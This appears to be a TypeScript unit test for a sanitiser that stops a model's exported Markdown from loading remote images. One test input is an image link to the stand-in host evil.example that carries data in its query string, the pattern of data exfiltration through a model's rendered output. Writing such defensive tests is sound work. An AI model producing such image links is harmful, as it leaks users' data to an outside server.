import { describe, expect, it } from "vitest";
import { withoutRemoteImages } from "./remote-images";

describe("the model's Markdown, exported", () => {
  it("names the server of an image instead of loading it; keeps inline images and links", () => {
    const answer = [
      '![chart](https://evil.example/p.png?rows=Seattle,150 "t") and ![](<https://x.example/a b>)',
      "![plot][ref] and ![dot](data:image/png;base64,iVBOR)",
      "[docs](https://example.org/docs)",
    ].join("\n");
    expect(withoutRemoteImages(answer)).toBe(
      [
        "[image from evil.example not loaded: chart] and [image from x.example not loaded]",
        "[image not loaded: plot] and ![dot](data:image/png;base64,iVBOR)",
        "[docs](https://example.org/docs)",
      ].join("\n"),
    );
  });
});
